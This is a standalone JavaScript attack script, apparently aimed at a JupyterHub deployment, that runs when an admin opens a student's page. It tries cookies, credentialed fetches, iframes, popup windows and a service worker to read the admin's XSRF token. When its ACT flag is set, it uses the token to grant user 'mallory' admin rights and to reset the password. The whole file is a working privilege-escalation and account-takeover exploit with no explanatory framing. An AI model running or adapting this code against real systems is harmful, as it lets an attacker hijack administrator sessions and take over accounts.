// What a student's page does in the name of an admin who opens it. HUB is the hub's origin. Without ACT it only reads.
(async () => {
  const told = {}, sleep = ms => new Promise(done => setTimeout(done, ms));
  let stolen = "";
  const token = text => {
    const found = (/xsrf_token:\s*"([^"]+)"/.exec(text) || [])[1] || "";
    stolen = stolen || found;
    return found ? "token" : "no token";
  };
  const attempt = async (name, what) => {
    try { told[name] = String(await Promise.race([what(), sleep(8000).then(() => "no answer")])); } catch (error) { told[name] = "refused"; }
  };
  const here = location.href;
  await attempt("cookies", () => { history.pushState({}, "", "/hub/home"); const seen = document.cookie; history.replaceState({}, "", here); return /_xsrf|hub-login/.test(seen) ? "token" : "none"; });
  for (const [name, base] of [["here", location.origin], ["hub", HUB]]) {
    await attempt("fetch " + name, async () => token(await (await fetch(base + "/hub/home", {credentials: "include"})).text()));
    await attempt("blind " + name, async () => (await fetch(base + "/hub/home", {credentials: "include", mode: "no-cors"})).type == "opaque" ? "refused" : "read");
  }
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = HUB + "/hub/home";
    document.body.append(frame);
    await sleep(2500);
    return token(frame.contentDocument.documentElement.innerHTML);
  });
  await attempt("window", async () => {
    const other = window.open(HUB + "/hub/home");
    await sleep(2500);
    const seen = token(other.document.documentElement.innerHTML);
    other.close();
    return seen;
  });
  await attempt("worker", async () => "registered for " + (await navigator.serviceWorker.register("worker.js", {scope: "/"})).scope);
  if (!ACT) return told;
  const headers = {"Content-Type": "application/json", "X-XSRFToken": stolen};
  for (const [name, base] of [["here", location.origin], ["hub", HUB]]) {
    const query = "?_xsrf=" + encodeURIComponent(stolen);
    await attempt("admin " + name, async () => (await fetch(base + "/hub/api/users/mallory" + query, {method: "PATCH", credentials: "include", headers, body: '{"admin": true}'})).status);
    await attempt("blind admin " + name, async () => (await fetch(base + "/hub/api/users/mallory" + query, {method: "POST", mode: "no-cors", credentials: "include", body: '{"admin": true}'})).status);
    const form = new URLSearchParams({_xsrf: stolen, new_password: "mallory-was-here-too", password: "mallory-was-here-too", new_password_confirmation: "mallory-was-here-too"});
    for (const path of ["/hub/change-password", "/hub/auth/change-password"]) {
      await attempt("password " + name + " " + path, async () => (await fetch(base + path, {method: "POST", mode: "no-cors", credentials: "include", body: form})).status);
    }
  }
  return told;
})()
